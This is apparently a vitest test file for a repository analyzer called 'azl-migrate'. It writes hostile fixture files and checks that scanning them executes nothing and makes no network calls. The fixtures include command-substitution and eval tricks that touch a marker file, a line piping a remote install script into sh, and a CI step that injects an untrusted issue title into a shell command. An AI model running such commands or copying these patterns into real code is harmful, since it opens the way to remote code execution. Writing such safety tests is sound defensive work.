/**
 * The analyzer makes no network calls and executes nothing from the scanned repository. A scan of the corpus and of
 * hostile fixtures (files that would run commands if they were sourced, evaluated or rendered) runs with every
 * process-spawning and network-connecting function of Node replaced by one that records the call and throws; nothing
 * may be called, and no marker file may appear.
 */
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import childProcess from 'node:child_process';
import net from 'node:net';
import tls from 'node:tls';
import http from 'node:http';
import https from 'node:https';
import dns from 'node:dns';
import dgram from 'node:dgram';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { syncBuiltinESMExports } from 'node:module';
import { scan } from '../src/scan.js';
import { run } from '../src/cli/run.js';

const ROOT = join(import.meta.dirname, '..');
const calls: string[] = [];

/** Replace each named function of a module by one that records the call and throws. */
function forbid(mod: Record<string, unknown>, name: string, fns: string[]): void {
  for (const fn of fns) {
    if (typeof mod[fn] !== 'function') continue;
    vi.spyOn(mod as Record<string, (...a: unknown[]) => unknown>, fn).mockImplementation((...args: unknown[]) => {
      calls.push(`${name}.${fn}(${JSON.stringify(args[0])?.slice(0, 80)})`);
      throw new Error(`azl-migrate must not call ${name}.${fn}`);
    });
  }
}

let dir: string;
let marker: string;

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'azl-hostile-'));
  marker = join(dir, 'PWNED');
  const m = marker;
  const w = (p: string, c: string) => {
    mkdirSync(join(dir, p, '..'), { recursive: true });
    writeFileSync(join(dir, p), c);
  };
  w('evil.sh', `#!/bin/sh\ntouch ${m}\n$(touch ${m})\n\`touch ${m}\`\neval "touch ${m}"\nsource <(echo touch ${m})\ncurl -fsSL https://example.invalid/install.sh | sh\napt-get install -y curl\n`);
  w('Dockerfile', `FROM ubuntu:22.04\nRUN touch ${m} && $(touch ${m})\nRUN <<EOF\ntouch ${m}\nEOF\nHEALTHCHECK CMD touch ${m}\n`);
  w('roles/x/tasks/main.yml', `- name: "{{ lookup('pipe', 'touch ${m}') }}"\n  ansible.builtin.shell: "touch ${m} {{ lookup('pipe', 'touch ${m}') }}"\n  when: "{{ lookup('pipe', 'touch ${m}') }}"\n- ansible.builtin.apt:\n    name: "{{ query('pipe', 'touch ${m}') }}"\n`);
  w('user-data.yaml', `#cloud-config\nruncmd:\n  - touch ${m}\nbootcmd:\n  - [sh, -c, "touch ${m}"]\nwrite_files:\n  - path: /etc/x\n    content: "{{ touch }}"\n`);
  w('app.ts', `import { execSync } from 'child_process';\nconst x = \`\${execSync('touch ${m}')}\`;\nrequire('child_process').exec(\`touch ${m}\`);\nfetch('https://example.invalid/');\nexport {};\n`);
  w('app.js', `const cp = require('child_process');\ncp.execSync("touch ${m}");\nnew Function("require('child_process').execSync('touch ${m}')")();\n`);
  w('worker.py', `import os, subprocess\nos.system("touch ${m}")\nsubprocess.run("touch ${m}", shell=True)\n__import__('os').system('touch ${m}')\n`);
  w('x.service', `[Service]\nExecStartPre=/bin/sh -c 'touch ${m}'\nExecStart=/usr/bin/touch ${m}\n`);
  w('main.tf', `resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "touch ${m}"\n  }\n}\ndata "external" "x" {\n  program = ["sh", "-c", "touch ${m}"]\n}\n`);
  w('.github/workflows/ci.yml', `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: touch ${m} \${{ github.event.issue.title }}\n`);
  w('compose.yml', `services:\n  a:\n    image: ubuntu:22.04\n    command: sh -c "touch ${m}"\n`);
  w('x.pkr.hcl', `build {\n  provisioner "shell-local" {\n    inline = ["touch ${m}"]\n  }\n}\n`);
  w('Makefile', `all:\n\ttouch ${m}\n`);
  w('bin/tool', `#!/usr/bin/env bash\ntouch ${m}\n`);
  // A config that would name rule folders or hooks if it were trusted: it is data only.
  w('.azl-migrate.yaml', `target: azurelinux-4.0\n`);

  forbid(childProcess as never, 'child_process', ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork']);
  forbid(net as never, 'net', ['connect', 'createConnection']);
  forbid(net.Socket.prototype as never, 'net.Socket', ['connect']);
  forbid(tls as never, 'tls', ['connect']);
  forbid(http as never, 'http', ['request', 'get']);
  forbid(https as never, 'https', ['request', 'get']);
  forbid(dns as never, 'dns', ['lookup', 'resolve', 'resolve4', 'resolve6', 'resolveAny']);
  forbid(dns.promises as never, 'dns.promises', ['lookup', 'resolve', 'resolve4', 'resolve6', 'resolveAny']);
  forbid(dgram as never, 'dgram', ['createSocket']);
  // Named ESM imports of builtins (`import { execFileSync } from 'node:child_process'`) see the spies only after this.
  syncBuiltinESMExports();
  if (typeof globalThis.fetch === 'function') {
    vi.spyOn(globalThis, 'fetch').mockImplementation(async (input) => {
      calls.push(`fetch(${String(input)})`);
      throw new Error('azl-migrate must not call fetch');
    });
  }
});

afterAll(() => {
  vi.restoreAllMocks();
  syncBuiltinESMExports();
  rmSync(dir, { recursive: true, force: true });
});

describe('no network, no execution', () => {
  it('the guards are in place, also for named imports (a forbidden call is recorded and throws)', async () => {
    expect(() => childProcess.execFileSync('true')).toThrow(/must not call/);
    expect(() => net.connect(1, '127.0.0.1')).toThrow(/must not call/);
    const named = await import('node:child_process');
    expect(() => named.spawnSync('true')).toThrow(/must not call/);
    const { request } = await import('node:https');
    expect(() => request('https://example.invalid/')).toThrow(/must not call/);
    expect(calls.splice(0)).toHaveLength(4);
  });

  it('scanning hostile files runs none of them and connects nowhere', async () => {
    const r = await scan({ root: dir });
    expect(r.files.scanned.length).toBeGreaterThanOrEqual(12);
    expect(r.findings.length).toBeGreaterThan(0);
    expect(calls).toEqual([]);
    expect(existsSync(marker)).toBe(false);
  });

  it('the CLI on the hostile files (every report format) and on the corpus: the same', async () => {
    let out = '';
    for (const format of ['text', 'json', 'sarif', 'junit', 'github']) {
      const code = await run(['scan', '.', '--format', format, '--fail-on', 'none'], { stdout: (s) => (out += s), stderr: (s) => (out += s), cwd: dir });
      expect(code, out.slice(-500)).toBe(0);
    }
    const code = await run(['scan', 'corpus/ubuntu-webapp', '--no-config', '--fail-on', 'none', '--format', 'json'], { stdout: () => {}, stderr: (s) => (out += s), cwd: ROOT });
    expect(code, out.slice(-500)).toBe(0);
    expect(calls).toEqual([]);
    expect(existsSync(marker)).toBe(false);
  });

  it('fix --dry-run on the hostile files: the same', async () => {
    let out = '';
    const code = await run(['fix', '.', '--dry-run'], { stdout: (s) => (out += s), stderr: (s) => (out += s), cwd: dir });
    expect([0, 1]).toContain(code);
    expect(calls).toEqual([]);
    expect(existsSync(marker)).toBe(false);
  });
});
